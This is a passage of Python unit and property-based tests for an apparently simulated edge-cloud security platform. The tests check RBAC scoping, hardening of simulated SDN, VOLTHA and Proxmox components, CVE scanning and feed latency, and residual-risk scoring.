        cluster.api.request("tok", "create", "pods", "tenant-a", "p", obj=good)


class TestComplianceCheckers:
    @pytest.fixture
    def stock_cluster(self):
        cluster = KubeCluster(rbac=permissive_default_rbac())
        cluster.add_namespace(Namespace("tenant-a"))
        cluster.add_namespace(Namespace("tenant-b"))
        hv = Hypervisor("olt-1", clock=cluster.clock, bus=cluster.bus)
        vm = hv.create_vm(VmSpec("worker", vcpus=4, memory_mb=8192))
        cluster.add_node(vm)
        image = ContainerImage(name="app")
        cluster.schedule(PodSpec(name="p1", namespace="tenant-a", image=image,
                                 security=PodSecurityContext(privileged=True)))
        return cluster, vm

    def test_stock_cluster_fails_most_checks(self, stock_cluster):
        cluster, vm = stock_cluster
        assert kube_bench(cluster).pass_rate < 0.3
        assert kubesec(cluster).pass_rate < 0.5
        assert kube_hunter(cluster).pass_rate < 0.5
        assert kubescape(cluster).pass_rate < 0.5
        assert docker_bench(vm.runtime).pass_rate < 0.5

    def test_hardened_cluster_passes_kube_bench(self, stock_cluster):
        cluster, _ = stock_cluster
        tighten_cluster(cluster)
        assert kube_bench(cluster).pass_rate == 1.0
        assert kube_hunter(cluster).pass_rate == 1.0

    def test_kube_hunter_actively_probes(self, stock_cluster):
        cluster, _ = stock_cluster
        report = kube_hunter(cluster)
        failed = {c.check_id for c in report.failures()}
        assert "KHV002" in failed    # anonymous enumeration worked

    def test_tools_cover_different_subsets(self, stock_cluster):
        cluster, vm = stock_cluster
        suite = ComplianceSuite(cluster, runtimes=[vm.runtime])
        analysis = suite.coverage_analysis()
        assert analysis["union_count"] > analysis["max_single_tool"]
        per_tool = analysis["per_tool"]
        assert set(per_tool["kube-bench"]) != set(per_tool["kubescape"])

    def test_kubescape_flags_wildcard_rbac(self, stock_cluster):
        cluster, _ = stock_cluster
        report = kubescape(cluster)
        failures = {c.check_id for c in report.failures()}
        assert "C-0088" in failures


class TestSdnAndVolthaHardening:
    def test_harden_sdn_controller(self):
        controller = SdnController()
        harden_sdn_controller(controller)
        report = controller.exposure_report()
        assert report["default_credentials"] == []
        assert report["unnecessary_open"] == []
        with pytest.raises(AuthenticationError):
            controller.call("onos", ApiCapability.SHELL_ACCESS, password="rocks")
        result = controller.call("genio-mgmt", ApiCapability.DEVICE_REGISTRATION,
                                 tls_certificate_fp="fp-genio-mgmt",
                                 device_id="olt-1")
        assert result["status"] == "registered"

    def test_harden_voltha(self):
        voltha = VolthaCore()
        harden_voltha(voltha)
        voltha.preprovision("genio-voltha-admin", "olt-1", "openolt",
                            tls_certificate_fp="fp-genio-voltha")
        with pytest.raises(AuthenticationError):
            voltha.preprovision("genio-voltha-admin", "olt-2", "openolt",
                                tls_certificate_fp="stolen")

    def test_harden_proxmox(self):
        pve = ProxmoxCluster()
        pve.add_hypervisor("olt-1", Hypervisor("olt-1"))
        pve.add_user(PveUser("alice@pve", token="t"))
        pve.add_user(PveUser("auditor@pve", token="t2"))
        pve.grant("/", "alice@pve", "Administrator")   # the sloppy default
        harden_proxmox(pve)
        assert pve.config.web_ui_tls and pve.config.two_factor_required
        assert "Permissions.Modify" not in pve.privileges_on("alice@pve",
                                                             "/nodes/olt-1")
        assert pve.check("alice@pve", "/nodes/olt-1", "VM.Allocate")
        assert pve.check("auditor@pve", "/vms/vm-9", "VM.Audit")
        assert not pve.check("auditor@pve", "/vms/vm-9", "VM.PowerMgmt")

"""Property-based tests (hypothesis) over core security invariants.

These complement the example-based suites: each property states an
invariant the security arguments rest on, and hypothesis hunts for
counterexamples across the input space.
"""

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from repro.common import crypto
from repro.common.errors import IntegrityError
from repro.osmodel.packages import compare_versions, version_in_range
from repro.osmodel.tpm import Tpm
from repro.pon.frames import Frame, GemFrame
from repro.pon.gpon import GponDecryptor, GponKeyServer
from repro.pon.macsec import MacsecChannel
from repro.security.malware.yara import YaraRule
from repro.security.sandbox.peach import TenancyConfig, peach_score
from repro.security.vulnmgmt.cvedb import CveRecord, Severity

_version = st.lists(st.integers(min_value=0, max_value=30),
                    min_size=1, max_size=4).map(
    lambda parts: ".".join(map(str, parts)))


class TestVersionOrderProperties:
    @given(_version)
    @settings(max_examples=60, deadline=None)
    def test_reflexive(self, version):
        assert compare_versions(version, version) == 0

    @given(_version, _version, _version)
    @settings(max_examples=80, deadline=None)
    def test_transitive(self, a, b, c):
        if compare_versions(a, b) <= 0 and compare_versions(b, c) <= 0:
            assert compare_versions(a, c) <= 0

    @given(_version, _version)
    @settings(max_examples=60, deadline=None)
    def test_range_boundaries(self, introduced, fixed):
        assume(compare_versions(introduced, fixed) < 0)
        assert version_in_range(introduced, introduced, fixed)
        assert not version_in_range(fixed, introduced, fixed)


class TestCveProperties:
    @given(st.floats(min_value=0.0, max_value=10.0))
    @settings(max_examples=50, deadline=None)
    def test_severity_total_and_monotone(self, cvss):
        severity = Severity.from_cvss(cvss)
        assert severity in Severity
        higher = Severity.from_cvss(min(10.0, cvss + 2.5))
        order = [Severity.LOW, Severity.MEDIUM, Severity.HIGH,
                 Severity.CRITICAL]
        assert order.index(higher) >= order.index(severity)

    @given(_version, _version, _version)
    @settings(max_examples=60, deadline=None)
    def test_affects_respects_fix(self, introduced, version, fixed):
        assume(compare_versions(introduced, fixed) < 0)
        cve = CveRecord("CVE-P", "pkg", "debian", introduced, fixed, 7.0)
        if cve.affects("pkg", version):
            assert compare_versions(version, fixed) < 0
            assert compare_versions(version, introduced) >= 0


class TestTpmProperties:
    @given(st.lists(st.binary(min_size=1, max_size=32), min_size=1,
                    max_size=6))
    @settings(max_examples=50, deadline=None)
    def test_extend_order_sensitive(self, measurements):
        assume(measurements != list(reversed(measurements)))
        forward, backward = Tpm(), Tpm()
        for m in measurements:
            forward.extend(0, m)
        for m in reversed(measurements):
            backward.extend(0, m)
        # Different order -> different PCR (collision-free in practice).
        assert forward.read_pcr(0) != backward.read_pcr(0)

    @given(st.lists(st.binary(min_size=1, max_size=16), min_size=1,
                    max_size=5),
           st.binary(min_size=1, max_size=16))
    @settings(max_examples=50, deadline=None)
    def test_seal_unseal_iff_same_history(self, history, extra):
        tpm = Tpm()
        for m in history:
            tpm.extend(8, m)
        tpm.seal("s", b"secret", [8])
        assert tpm.unseal("s") == b"secret"
        tpm.extend(8, extra)
        with pytest.raises(Exception):
            tpm.unseal("s")


class TestChannelProperties:
    @given(st.binary(max_size=512))
    @settings(max_examples=40, deadline=None)
    def test_macsec_roundtrip_any_payload(self, payload):
        sak = b"k" * 32
        sender, receiver = MacsecChannel(sak), MacsecChannel(sak)
        protected = sender.protect(Frame("a", "b", payload=payload))
        assert receiver.validate(protected).payload == payload

    @given(st.binary(min_size=1, max_size=256), st.integers(min_value=0))
    @settings(max_examples=40, deadline=None)
    def test_macsec_any_payload_flip_rejected(self, payload, position):
        sak = b"k" * 32
        sender, receiver = MacsecChannel(sak), MacsecChannel(sak)
        protected = sender.protect(Frame("a", "b", payload=payload))
        blob = bytearray(protected.payload)
        blob[position % len(blob)] ^= 0x01
        with pytest.raises(IntegrityError):
            receiver.validate(protected.with_payload(bytes(blob), secure=True))

    @given(st.binary(max_size=512), st.integers(min_value=1, max_value=4000))
    @settings(max_examples=40, deadline=None)
    def test_gpon_roundtrip_and_isolation(self, payload, gem_port):
        server = GponKeyServer()
        server.establish(gem_port)
        gem = server.encrypt(GemFrame(gem_port=gem_port,
                                      inner=Frame("olt", "onu",
                                                  payload=payload)))
        subscriber = GponDecryptor()
        key, index = server.export_key(gem_port)
        subscriber.install_key(gem_port, key, index)
        assert subscriber.decrypt(gem).payload == payload
        # A neighbour with a *different* key never reads the flow:
        neighbour = GponDecryptor()
        neighbour.install_key(gem_port, crypto.random_key(), index)
        with pytest.raises(IntegrityError):
            neighbour.decrypt(gem)


class TestSignatureProperties:
    KEY = crypto.RsaKeyPair.generate(bits=512, seed=0xF00)
    OTHER = crypto.RsaKeyPair.generate(bits=512, seed=0xF01)

    @given(st.binary(min_size=1, max_size=256))
    @settings(max_examples=40, deadline=None)
    def test_sign_verify_any_message(self, message):
        signature = self.KEY.sign(message)
        assert self.KEY.public.verify(message, signature)
        assert not self.OTHER.public.verify(message, signature)

    @given(st.binary(min_size=1, max_size=128), st.binary(min_size=1,
                                                          max_size=128))
    @settings(max_examples=40, deadline=None)
    def test_signature_not_transferable(self, message, other_message):
        assume(message != other_message)
        signature = self.KEY.sign(message)
        assert not self.KEY.public.verify(other_message, signature)


class TestYaraProperties:
    @given(st.binary(max_size=256), st.binary(min_size=2, max_size=16))
    @settings(max_examples=50, deadline=None)
    def test_any_rule_matches_iff_string_present(self, haystack, needle):
        rule = YaraRule("r", strings=(needle,), condition="any")
        assert rule.matches(haystack) == (needle in haystack)
        assert rule.matches(haystack + needle)

    @given(st.lists(st.binary(min_size=2, max_size=8), min_size=2,
                    max_size=5, unique=True),
           st.integers(min_value=1, max_value=5))
    @settings(max_examples=50, deadline=None)
    def test_threshold_semantics(self, needles, threshold):
        assume(threshold <= len(needles))
        rule = YaraRule("r", strings=tuple(needles), condition=threshold)
        assert rule.matches(b"|".join(needles))
        if threshold > 1:
            lone = needles[0]
            assume(not any(n in lone for n in needles[1:]))
            assert not rule.matches(lone)


class TestPeachProperties:
    _flags = st.booleans()

    @given(seccomp=_flags, lsm=_flags, caps=_flags, scanned=_flags,
           monitored=_flags, deny=_flags)
    @settings(max_examples=60, deadline=None)
    def test_scores_bounded_and_monotone_in_hardening(
            self, seccomp, lsm, caps, scanned, monitored, deny):
        weaker = TenancyConfig(
            name="w", isolation_unit="container",
            seccomp_enforced=seccomp, lsm_policies_enforced=lsm,
            capabilities_minimal=caps, images_scanned=scanned,
            runtime_monitoring=monitored, network_default_deny=deny)
        assessment = peach_score(weaker)
        assert 0.0 <= assessment.overall <= 1.0
        # Flipping every knob to secure never lowers the score:
        stronger = TenancyConfig(
            name="s", isolation_unit="container",
            seccomp_enforced=True, lsm_policies_enforced=True,
            capabilities_minimal=True, images_scanned=True,
            runtime_monitoring=True, network_default_deny=True)
        assert peach_score(stronger).overall >= assessment.overall


class TestDbaBatchingProperties:
    """The batched fair-policy grant path must be byte-identical to the
    reference (guaranteed round + progressive tier fill) it replaces."""

    _tcont_config = st.lists(
        st.tuples(st.integers(min_value=0, max_value=3),      # priority
                  st.floats(min_value=0.1, max_value=8.0),    # weight
                  st.integers(min_value=0, max_value=200_000)),  # queued
        min_size=1, max_size=24)

    @given(_tcont_config,
           st.integers(min_value=0, max_value=500_000),
           st.floats(min_value=0.0, max_value=0.5))
    @settings(max_examples=60, deadline=None)
    def test_batched_grants_equal_reference(self, config, capacity,
                                            guaranteed):
        from repro.traffic.dba import DbaScheduler
        from repro.traffic.profiles import Request

        def build(batched):
            dba = DbaScheduler(guaranteed_share=guaranteed, batched=batched)
            for i, (priority, weight, queued) in enumerate(config):
                tcont = dba.register_tcont(f"S{i}", f"t-{i}",
                                           priority=priority, weight=weight)
                if queued:
                    tcont.offer(Request(tenant=f"t-{i}", size_bytes=queued,
                                        issued_at=0.0))
            return dba

        reference = build(batched=False).grant(capacity)
        batched = build(batched=True).grant(capacity)
        assert batched == reference
        total_backlog = sum(q for _, _, q in config)
        assert sum(batched.values()) == min(capacity, total_backlog)


class TestFleetDeterminismProperties:
    """Same seed + same fleet config => byte-identical event ordering and
    final metrics across independent runs (the reproducibility the sim
    refactor exists to guarantee)."""

    @given(st.integers(min_value=0, max_value=2**31),
           st.integers(min_value=1, max_value=3),
           st.integers(min_value=3, max_value=9),
           st.booleans())
    @settings(max_examples=8, deadline=None)
    def test_same_seed_identical_trace_and_report(self, seed, n_olts,
                                                  n_tenants, hostile):
        from repro.traffic.fleet import FleetDriver
        assume(n_tenants >= n_olts)

        def run():
            driver = FleetDriver(n_olts=n_olts, n_tenants=n_tenants,
                                 seed=seed, hostile=hostile)
            trace = driver.scheduler.enable_trace()
            report = driver.run(0.2)
            return list(trace), report.render(), report.alert_first_at

        first_trace, first_render, first_alerts = run()
        second_trace, second_render, second_alerts = run()
        assert first_trace == second_trace
        assert first_render == second_render
        assert first_alerts == second_alerts

"""Tests for residual-risk assessment and lease provisioning."""

import pytest

from repro.common.errors import CapacityError
from repro.platform import build_genio_deployment
from repro.platform.leasing import LeaseProvisioner
from repro.platform.tenants import ResourceLease
from repro.security.threatmodel.risk import (
    ALL_MITIGATIONS, assess_residual_risk, portfolio_risk,
)
from repro.security.threatmodel.stride import RiskLevel


class TestResidualRisk:
    def test_no_mitigations_equals_inherent(self):
        assessments = assess_residual_risk([])
        for assessment in assessments:
            assert assessment.residual_score == assessment.inherent_score
            assert assessment.reduction == 0.0
            assert assessment.applied == []

    def test_all_mitigations_reduce_every_threat(self):
        assessments = assess_residual_risk(ALL_MITIGATIONS)
        for assessment in assessments:
            assert assessment.residual_score < assessment.inherent_score
            assert assessment.missing == []
            assert assessment.reduction > 0.5

    def test_partial_application_partial_reduction(self):
        only_infra = [m for m in ALL_MITIGATIONS
                      if m in ("M1", "M2", "M3", "M4")]
        assessments = {a.threat_id: a for a in assess_residual_risk(only_infra)}
        assert assessments["T1"].reduction > 0.7       # both M3+M4 applied
        assert assessments["T8"].reduction == 0.0      # nothing applied
        assert assessments["T8"].missing == ["M16", "M17", "M18"]

    def test_mitigations_compound(self):
        one = {a.threat_id: a for a in assess_residual_risk(["M3"])}
        both = {a.threat_id: a for a in assess_residual_risk(["M3", "M4"])}
        assert both["T1"].residual_score < one["T1"].residual_score

    def test_unknown_mitigation_rejected(self):
        with pytest.raises(ValueError):
            assess_residual_risk(["M99"])

    def test_ordering_most_residual_first(self):
        assessments = assess_residual_risk(["M3", "M4"])
        scores = [a.residual_score for a in assessments]
        assert scores == sorted(scores, reverse=True)

    def test_portfolio_summary(self):
        before = portfolio_risk(assess_residual_risk([]))
        after = portfolio_risk(assess_residual_risk(ALL_MITIGATIONS))
        assert after["residual_total"] < before["residual_total"]
        assert after["overall_reduction"] > 0.5
        assert after["threats_above_medium"] < before["threats_above_medium"]

    def test_residual_level_banding(self):
        fully = assess_residual_risk(ALL_MITIGATIONS)
        assert all(a.residual_level in (RiskLevel.LOW, RiskLevel.MEDIUM)
                   for a in fully)


class TestLeaseProvisioning:
    @pytest.fixture
    def deployment(self):
        return build_genio_deployment(n_olts=2, onus_per_olt=2)

    def test_hard_lease_gets_dedicated_vm(self, deployment):
        provisioner = LeaseProvisioner(deployment)
        lease = ResourceLease("tenant-a", cpu_cores=4, memory_mb=8192,
                              storage_gb=100, isolation="hard")
        result = provisioner.provision(lease)
        assert result.isolation == "hard" and result.vm_id
        vm = next(vm for vm in deployment.worker_vms()
                  if vm.id == result.vm_id)
        assert vm.tenant == "tenant-a"
        assert vm.runtime.node_name in deployment.cloud_cluster.nodes

    def test_soft_lease_carves_shared_runtime(self, deployment):
        provisioner = LeaseProvisioner(deployment)
        lease = ResourceLease("tenant-a", cpu_cores=2, memory_mb=2048,
                              storage_gb=50, isolation="soft")
        result = provisioner.provision(lease)
        assert result.isolation == "soft"
        assert result.shared_node
        assert result.limits.cpu_shares == 2048

    def test_hard_lease_capacity_exhaustion(self, deployment):
        provisioner = LeaseProvisioner(deployment)
        big = ResourceLease("tenant-a", cpu_cores=8, memory_mb=32768,
                            storage_gb=100, isolation="hard")
        provisioner.provision(big)
        provisioner.provision(big)   # second OLT still has room
        with pytest.raises(CapacityError):
            provisioner.provision(big)

    def test_soft_lease_respects_tenancy(self, deployment):
        """tenant-b's soft lease never lands on tenant-a's VM."""
        provisioner = LeaseProvisioner(deployment)
        lease = ResourceLease("tenant-b", cpu_cores=1, memory_mb=1024,
                              storage_gb=10, isolation="soft")
        result = provisioner.provision(lease)
        vm = deployment.cloud_cluster.nodes[result.shared_node]
        assert vm.tenant in ("tenant-b", "platform")

    def test_summary(self, deployment):
        provisioner = LeaseProvisioner(deployment)
        provisioner.provision(ResourceLease("tenant-a", 2, 2048, 10,
                                            isolation="hard"))
        provisioner.provision(ResourceLease("tenant-a", 1, 1024, 10,
                                            isolation="soft"))
        summary = provisioner.tenancy_summary()
        assert summary["hard"] == 1 and summary["soft"] == 1
        assert summary["dedicated_vms"]

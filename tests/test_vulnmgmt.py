"""Unit tests for M8/M12 vulnerability management."""

import pytest

from repro.orchestrator.kube.cluster import KubeCluster
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.security.vulnmgmt import (
    CveDatabase, CveRecord, HostScanner, Severity, build_cve_corpus,
    generate_kbom, genio_feed_landscape, match_kbom,
)
from repro.security.vulnmgmt.feeds import (
    BlogFeed, FeedAggregator, NvdApiFeed, StaleFeed, StructuredFeed, WebUiFeed,
)
from repro.security.vulnmgmt.hostscan import ONL_PACKAGE_ALIASES
from repro.security.vulnmgmt.kbom import naive_match, precision

_DAY = 86400.0


class TestCveDatabase:
    def test_severity_bands(self):
        assert Severity.from_cvss(9.8) is Severity.CRITICAL
        assert Severity.from_cvss(7.0) is Severity.HIGH
        assert Severity.from_cvss(4.5) is Severity.MEDIUM
        assert Severity.from_cvss(2.0) is Severity.LOW

    def test_affects_range(self):
        cve = CveRecord("CVE-X", "openssl", "debian", "1.1.1", "1.1.1l", 7.4)
        assert cve.affects("openssl", "1.1.1d")
        assert not cve.affects("openssl", "1.1.1l")
        assert not cve.affects("openssl", "1.1.0")
        assert not cve.affects("other", "1.1.1d")

    def test_unfixed_cve_affects_everything_after(self):
        cve = CveRecord("CVE-Y", "telnetd", "debian", None, None, 9.8)
        assert cve.affects("telnetd", "0.17")
        assert cve.affects("telnetd", "99.0")

    def test_priority_weights_exploitability(self):
        plain = CveRecord("A", "p", "debian", None, None, 8.0)
        armed = CveRecord("B", "p", "debian", None, None, 8.0,
                          exploit_available=True)
        assert armed.priority > plain.priority

    def test_matching_respects_ecosystem(self):
        db = CveDatabase([CveRecord("A", "django", "pypi", "2.0", "3.0", 9.8)])
        assert db.matching("django", "2.2", "pypi")
        assert not db.matching("django", "2.2", "debian")

    def test_published_before(self):
        db = build_cve_corpus()
        early = db.published_before(5 * _DAY)
        assert 0 < len(early) < len(db)

    def test_get_by_id(self):
        db = build_cve_corpus()
        assert db.get("CVE-2021-3156").package == "sudo"
        assert db.get("CVE-0000-0000") is None


class TestHostScanner:
    @pytest.fixture
    def scanner(self):
        return HostScanner(build_cve_corpus())

    def test_stock_onl_host_is_riddled(self, scanner):
        report = scanner.scan(stock_onl_olt_host())
        assert len(report.findings) >= 10
        assert report.critical_or_exploitable
        packages = {f.package for f in report.findings}
        assert {"openssl", "sudo", "telnetd", "linux-kernel"} <= packages

    def test_prioritized_order(self, scanner):
        report = scanner.scan(stock_onl_olt_host())
        priorities = [f.priority for f in report.prioritized()]
        assert priorities == sorted(priorities, reverse=True)

    def test_onl_packages_skipped_without_aliases(self, scanner):
        report = scanner.scan(stock_onl_olt_host())
        assert "openvswitch-switch" in report.packages_skipped
        tuned = HostScanner(build_cve_corpus(),
                            package_aliases=ONL_PACKAGE_ALIASES)
        tuned_report = tuned.scan(stock_onl_olt_host())
        assert "openvswitch-switch" not in tuned_report.packages_skipped
        assert any(f.package == "openvswitch-switch"
                   for f in tuned_report.findings)

    def test_time_limited_scan(self, scanner):
        host = stock_onl_olt_host()
        early = scanner.scan(host, now=5 * _DAY)
        full = scanner.scan(host)
        assert len(early.findings) < len(full.findings)

    def test_patching_reduces_findings(self, scanner):
        host = stock_onl_olt_host()
        before = scanner.scan(host)
        applied, after = scanner.patch_prioritized(host, budget=100)
        assert applied > 0
        assert len(after.findings) < len(before.findings)
        # Kernel and unfixed CVEs remain (they need ONIE / have no patch).
        remaining = {f.package for f in after.findings}
        assert "linux-kernel" in remaining

    def test_patch_budget_respected(self, scanner):
        host = stock_onl_olt_host()
        applied, _ = scanner.patch_prioritized(host, budget=3)
        assert applied == 3

    def test_cloud_host_is_mostly_clean(self, scanner):
        report = scanner.scan(cloud_host())
        assert len(report.findings) <= 2


class TestFeeds:
    def _cve(self, package, ecosystem="middleware", published=20 * _DAY,
             version_affected=True):
        return CveRecord("CVE-T", package, ecosystem, None, None, 8.0,
                         published_at=published)

    def test_structured_feed_is_fast(self):
        feed = StructuredFeed("k8s", ecosystems=("k8s",))
        cve = self._cve("kubelet", ecosystem="k8s")
        latency = feed.aware_at(cve) - cve.published_at
        assert latency < 1 * _DAY

    def test_blog_feed_is_slow(self):
        feed = BlogFeed("docker", packages=("containerd",))
        cve = self._cve("containerd")
        latency = feed.aware_at(cve) - cve.published_at
        assert latency >= 2 * _DAY

    def test_webui_waits_for_check(self):
        feed = WebUiFeed("pve", packages=("proxmox-ve",), check_interval=7 * _DAY)
        cve = self._cve("proxmox-ve", published=8 * _DAY)
        assert feed.aware_at(cve) == 14 * _DAY

    def test_stale_feed_misses_new_cves(self):
        feed = StaleFeed("onos", packages=("onos",), stale_after=10 * _DAY)
        old = self._cve("onos", published=5 * _DAY)
        new = self._cve("onos", published=26 * _DAY)
        assert feed.aware_at(old) is not None
        assert feed.aware_at(new) is None

    def test_nvd_covers_everything_slowly(self):
        feed = NvdApiFeed()
        cve = self._cve("anything")
        assert feed.aware_at(cve) - cve.published_at >= 3 * _DAY

    def test_aggregator_prefers_fastest_source(self):
        aggregator = genio_feed_landscape()
        k8s_cve = CveRecord("CVE-K", "kubelet", "k8s", "1.19", "1.22.2", 8.1,
                            published_at=28 * _DAY)
        record = aggregator.awareness(k8s_cve)
        assert record.via == "kubernetes-cve-feed"
        onos_new = CveRecord("CVE-O", "onos", "middleware", "1.0", "2.8.0",
                             6.5, published_at=26 * _DAY)
        record = aggregator.awareness(onos_new)
        assert record.via == "nvd"   # stale vendor feed missed it

    def test_awareness_report_and_summary(self):
        aggregator = genio_feed_landscape()
        deployed = {"kubelet": "1.20.0", "containerd": "1.4.0",
                    "proxmox-ve": "7.2-3", "onos": "2.7.0"}
        records = aggregator.awareness_report(build_cve_corpus(), deployed)
        assert records
        summary = FeedAggregator.summarize(records)
        latencies = summary["mean_latency_days"]
        assert latencies["kubernetes-cve-feed"] < latencies["nvd"]
        assert summary["manual_review_hours"] > 0


class TestKbom:
    @pytest.fixture
    def cluster(self):
        return KubeCluster()

    def test_kbom_catalogs_components(self, cluster):
        kbom = generate_kbom(cluster)
        names = {c.name for c in kbom.components}
        assert {"kube-apiserver", "kubelet", "etcd", "coredns"} <= names
        kinds = {c.kind for c in kbom.components}
        assert kinds == {"controlplane", "node", "addon"}

    def test_exact_matching_finds_real_vulns(self, cluster):
        kbom = generate_kbom(cluster)
        matches = match_kbom(kbom, build_cve_corpus())
        assert all(m.exact for m in matches)
        matched = {m.cve.cve_id for m in matches}
        assert "CVE-2022-3172" in matched     # apiserver 1.24.0 < fixed 1.24.5
        assert "CVE-2021-25741" not in matched  # kubelet 1.24.0 > fixed 1.22.2

    def test_naive_matching_is_noisier(self, cluster):
        kbom = generate_kbom(cluster)
        exact = match_kbom(kbom, build_cve_corpus())
        naive = naive_match(kbom, build_cve_corpus())
        assert len(naive) > len(exact)
        assert precision(naive) < 1.0
        assert precision(exact) == 1.0

"""Unit tests for the Kubernetes-like, Proxmox-like and registry substrates."""

import pytest

from repro.common import crypto
from repro.common.errors import (
    AuthenticationError,
    AuthorizationError,
    CapacityError,
    IntegrityError,
    NotFoundError,
)
from repro.orchestrator.kube.apiserver import ApiServer, ApiServerConfig
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import (
    Namespace, NetworkPolicy, PodSecurityContext, PodSpec,
)
from repro.orchestrator.kube.rbac import (
    PolicyRule, RbacAuthorizer, Role, RoleBinding, Subject,
    permissive_default_rbac,
)
from repro.orchestrator.proxmox import ProxmoxCluster, PveUser
from repro.orchestrator.registry import ImageRegistry
from repro.virt.hypervisor import Hypervisor
from repro.virt.image import ContainerImage
from repro.virt.vm import VmSpec


def make_image(name="app"):
    image = ContainerImage(name=name)
    image.add_layer({"/app/main.py": b"pass"})
    return image


class TestRbac:
    def test_wildcard_role_allows_everything(self):
        rbac = permissive_default_rbac()
        subject = Subject("ServiceAccount", "tenant-a:default")
        assert rbac.authorize(subject, "delete", "nodes", "kube-system")
        assert rbac.authorize(subject, "get", "secrets", "tenant-b")

    def test_namespaced_role_is_scoped(self):
        rbac = RbacAuthorizer()
        rbac.add_role(Role(name="pod-reader", namespace="tenant-a",
                           rules=[PolicyRule(("get", "list"), ("pods",))]))
        rbac.bind(RoleBinding(name="b", role_name="pod-reader",
                              namespace="tenant-a",
                              subjects=[Subject("User", "alice")]))
        alice = Subject("User", "alice")
        assert rbac.authorize(alice, "get", "pods", "tenant-a")
        assert not rbac.authorize(alice, "get", "pods", "tenant-b")
        assert not rbac.authorize(alice, "delete", "pods", "tenant-a")
        assert not rbac.authorize(alice, "get", "secrets", "tenant-a")

    def test_privilege_surface_shrinks_with_least_privilege(self):
        namespaces = ["tenant-a", "tenant-b", "kube-system"]
        sa = Subject("ServiceAccount", "tenant-a:default")

        permissive = permissive_default_rbac()
        wide = permissive.privilege_surface(sa, namespaces)

        tight = RbacAuthorizer()
        tight.add_role(Role(name="app", namespace="tenant-a",
                            rules=[PolicyRule(("get",), ("configmaps",))]))
        tight.bind(RoleBinding(name="b", role_name="app", namespace="tenant-a",
                               subjects=[sa]))
        narrow = tight.privilege_surface(sa, namespaces)
        assert len(narrow) < len(wide) / 10
        assert tight.escalation_risks(sa, namespaces) == set()
        assert permissive.escalation_risks(sa, namespaces)

    def test_remove_binding(self):
        rbac = permissive_default_rbac()
        rbac.remove_binding("everyone-is-admin")
        assert not rbac.authorize(Subject("User", "ops-alice"), "get", "pods", "x")


class TestApiServer:
    def test_anonymous_default_and_always_allow(self):
        api = ApiServer()
        result = api.request(None, "create", "pods", "default", "p1", obj={"x": 1})
        assert result == {"x": 1}

    def test_anonymous_off_requires_token(self):
        api = ApiServer(config=ApiServerConfig(anonymous_auth=False))
        with pytest.raises(AuthenticationError):
            api.request(None, "get", "pods", "default")
        api.register_token("tok", Subject("User", "alice"))
        api.request("tok", "get", "pods", "default")  # AlwaysAllow

    def test_rbac_mode_enforced(self):
        rbac = RbacAuthorizer()
        rbac.add_role(Role(name="reader", namespace="default",
                           rules=[PolicyRule(("get", "list"), ("pods",))]))
        rbac.bind(RoleBinding(name="b", role_name="reader", namespace="default",
                              subjects=[Subject("User", "alice")]))
        api = ApiServer(config=ApiServerConfig(anonymous_auth=False,
                                               authorization_mode="RBAC"),
                        rbac=rbac)
        api.register_token("tok", Subject("User", "alice"))
        api.request("tok", "get", "pods", "default")
        with pytest.raises(AuthorizationError):
            api.request("tok", "create", "pods", "default", "p", obj={})

    def test_admission_controller_rejects(self):
        api = ApiServer()
        api.add_admission_controller(
            "deny-privileged",
            lambda verb, res, obj: "privileged pod"
            if isinstance(obj, dict) and obj.get("privileged") else None)
        api.request(None, "create", "pods", "d", "ok", obj={"privileged": False})
        with pytest.raises(AuthorizationError):
            api.request(None, "create", "pods", "d", "bad", obj={"privileged": True})

    def test_audit_log_only_when_enabled(self):
        silent = ApiServer()
        silent.request(None, "get", "pods", "d")
        assert silent.audit_log == []
        loud = ApiServer(config=ApiServerConfig(audit_logging=True))
        loud.request(None, "get", "pods", "d")
        assert len(loud.audit_log) == 1

    def test_store_crud(self):
        api = ApiServer()
        api.request(None, "create", "secrets", "ns", "s1", obj="v1")
        assert api.request(None, "get", "secrets", "ns", "s1") == "v1"
        assert api.request(None, "list", "secrets", "ns") == ["v1"]
        api.request(None, "delete", "secrets", "ns", "s1")
        assert api.request(None, "get", "secrets", "ns", "s1") is None


class TestCluster:
    @pytest.fixture
    def cluster(self):
        cluster = KubeCluster()
        hv = Hypervisor("olt-1", cpu_cores=16, memory_mb=32768,
                        clock=cluster.clock, bus=cluster.bus)
        for i in range(2):
            vm = hv.create_vm(VmSpec(f"worker-{i}", vcpus=4, memory_mb=8192))
            cluster.add_node(vm, labels={"zone": f"z{i}"})
        cluster.add_namespace(Namespace("tenant-a"))
        return cluster

    def test_schedule_runs_container(self, cluster):
        pod = cluster.schedule(PodSpec(name="web", namespace="tenant-a",
                                       image=make_image(), tenant="tenant-a"))
        assert pod.phase == "Running"
        node = cluster.nodes[pod.node]
        assert node.runtime.containers[pod.container_id].running

    def test_node_selector_respected(self, cluster):
        pod = cluster.schedule(PodSpec(name="pinned", namespace="tenant-a",
                                       image=make_image(),
                                       node_selector={"zone": "z1"}))
        assert cluster.node_labels[pod.node]["zone"] == "z1"

    def test_unknown_namespace_rejected(self, cluster):
        with pytest.raises(NotFoundError):
            cluster.schedule(PodSpec(name="p", namespace="ghost",
                                     image=make_image()))

    def test_impossible_selector_is_capacity_error(self, cluster):
        with pytest.raises(CapacityError):
            cluster.schedule(PodSpec(name="p", namespace="tenant-a",
                                     image=make_image(),
                                     node_selector={"zone": "nowhere"}))

    def test_evict(self, cluster):
        pod = cluster.schedule(PodSpec(name="w", namespace="tenant-a",
                                       image=make_image()))
        cluster.evict(pod.key)
        assert pod.key not in cluster.pods

    def test_security_context_lowering(self, cluster):
        spec = PodSpec(
            name="p", namespace="tenant-a", image=make_image(),
            security=PodSecurityContext(
                privileged=True,
                added_capabilities=("CAP_NET_ADMIN",),
                seccomp_profile="runtime/default"),
            host_path_volumes=("/var/run/docker.sock",),
        )
        cspec = spec.to_container_spec()
        assert cspec.privileged
        assert "CAP_NET_ADMIN" in cspec.capabilities
        assert cspec.seccomp_profile == "default"
        assert cspec.mounts[0].sensitive

    def test_network_policy_default_allow_then_deny(self, cluster):
        assert cluster.ingress_allowed("tenant-b", "tenant-a")
        cluster.add_network_policy(NetworkPolicy(
            name="deny", namespace="tenant-a", default_deny_ingress=True,
            allowed_from_namespaces=("kube-system",)))
        assert not cluster.ingress_allowed("tenant-b", "tenant-a")
        assert cluster.ingress_allowed("kube-system", "tenant-a")

    def test_component_inventory(self, cluster):
